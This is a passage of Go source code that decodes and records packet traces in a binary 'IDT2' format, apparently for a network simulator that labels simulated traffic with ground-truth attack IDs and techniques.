		*pk = packet.Packet{}
		if pk.Seq, p, err = readUvarint(p); err != nil {
			return p, fmt.Errorf("record %d seq: %w", i, err)
		}
		if v, p, err = readUvarint(p); err != nil {
			return p, fmt.Errorf("record %d sent: %w", i, err)
		}
		pk.Sent = time.Duration(v)
		if len(p) < 16 {
			return p, fmt.Errorf("truncated record %d", i)
		}
		pk.Src = packet.Addr(binary.BigEndian.Uint32(p[0:4]))
		pk.Dst = packet.Addr(binary.BigEndian.Uint32(p[4:8]))
		pk.SrcPort = binary.BigEndian.Uint16(p[8:10])
		pk.DstPort = binary.BigEndian.Uint16(p[10:12])
		pk.Proto = packet.Proto(p[12])
		pk.Flags = packet.TCPFlags(p[13])
		pk.TTL = p[14]
		mal := p[15]
		p = p[16:]
		if mal == 1 {
			pk.Truth.Malicious = true
			if v, p, err = readUvarint(p); err != nil {
				return p, fmt.Errorf("record %d attack id: %w", i, err)
			}
			if v >= uint64(len(strs)) {
				return p, fmt.Errorf("record %d attack id index %d out of range", i, v)
			}
			pk.Truth.AttackID = strs[v]
			if v, p, err = readUvarint(p); err != nil {
				return p, fmt.Errorf("record %d technique: %w", i, err)
			}
			if v >= uint64(len(strs)) {
				return p, fmt.Errorf("record %d technique index %d out of range", i, v)
			}
			pk.Truth.Technique = strs[v]
		} else if mal != 0 {
			return p, fmt.Errorf("record %d bad malicious flag %d", i, mal)
		}
		var plen uint64
		if plen, p, err = readUvarint(p); err != nil {
			return p, fmt.Errorf("record %d payload length: %w", i, err)
		}
		if arenaOff+plen > arenaLen {
			return p, fmt.Errorf("record %d payload overruns arena (%d+%d > %d)", i, arenaOff, plen, arenaLen)
		}
		if plen > 0 {
			pk.Payload = arena[arenaOff : arenaOff+plen : arenaOff+plen]
			arenaOff += plen
		}
		c.Records[i] = Record{At: at, Pk: pk}
	}
	if arenaOff != arenaLen {
		return p, fmt.Errorf("arena underrun (%d of %d used)", arenaOff, arenaLen)
	}
	if len(p) != 0 {
		return p, fmt.Errorf("%d trailing bytes in chunk", len(p))
	}
	return nil, nil
}

// ---- decode helpers ----

func readUvarint(p []byte) (uint64, []byte, error) {
	v, n := binary.Uvarint(p)
	if n <= 0 {
		return 0, p, errors.New("bad uvarint")
	}
	return v, p[n:], nil
}

func readBytes(p []byte) ([]byte, []byte, error) {
	n, p, err := readUvarint(p)
	if err != nil {
		return nil, p, err
	}
	if n > uint64(len(p)) {
		return nil, p, errors.New("truncated bytes")
	}
	return p[:n], p[n:], nil
}

func readString(p []byte) (string, []byte, error) {
	b, p, err := readBytes(p)
	if err != nil {
		return "", p, err
	}
	return string(b), p, nil
}

func minU64(a, b uint64) uint64 {
	if a < b {
		return a
	}
	return b
}

// remainingBytes reports how many unread bytes the source holds, when
// that is knowable without consuming it: buffered bytes plus the
// underlying reader's remainder for in-memory readers (Len) and
// seekable sources.
func remainingBytes(br *bufio.Reader, r io.Reader) (uint64, bool) {
	under := int64(-1)
	switch s := r.(type) {
	case interface{ Len() int }:
		under = int64(s.Len())
	case io.Seeker:
		cur, err1 := s.Seek(0, io.SeekCurrent)
		end, err2 := s.Seek(0, io.SeekEnd)
		if err1 == nil && err2 == nil {
			if _, err := s.Seek(cur, io.SeekStart); err == nil {
				under = end - cur
			}
		}
	}
	if under < 0 {
		return 0, false
	}
	return uint64(under) + uint64(br.Buffered()), true
}

// readStreamAll materializes a whole IDT2 stream as an in-memory Trace
// (the ReadBinary compatibility path). Chunks are not released, so the
// returned records and payloads stay valid for the life of the Trace.
func readStreamAll(r io.Reader) (*Trace, error) {
	rd, err := NewReader(r)
	if err != nil {
		return nil, err
	}
	t := &Trace{Profile: rd.Profile(), Seed: rd.Seed()}
	if st, ok := rd.Stats(); ok {
		t.Records = make([]Record, 0, minU64(st.Packets, 1<<20))
	}
	for {
		c, err := rd.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			return nil, err
		}
		t.Records = append(t.Records, c.Records...)
	}
	if incs := rd.Incidents(); len(incs) > 0 {
		t.Incidents = incs
	}
	return t, nil
}

// ---- streaming recorder ----

// StreamRecorder captures packets straight into an IDT2 Writer, so
// recording memory is O(chunk) instead of O(capture). Plug Emit into a
// generator or netsim tap like Recorder's.
type StreamRecorder struct {
	sim *simtime.Sim
	w   *Writer
	err error
}

// NewStreamRecorder creates a recorder stamping records with sim's clock.
func NewStreamRecorder(sim *simtime.Sim, w *Writer) *StreamRecorder {
	return &StreamRecorder{sim: sim, w: w}
}

// Emit appends one packet at the current virtual time. The first append
// error is sticky and surfaced by Err.
func (r *StreamRecorder) Emit(p *packet.Packet) {
	if r.err != nil {
		return
	}
	r.err = r.w.Append(r.sim.Now(), p)
}

// Err returns the first append error, if any.
func (r *StreamRecorder) Err() error { return r.err }
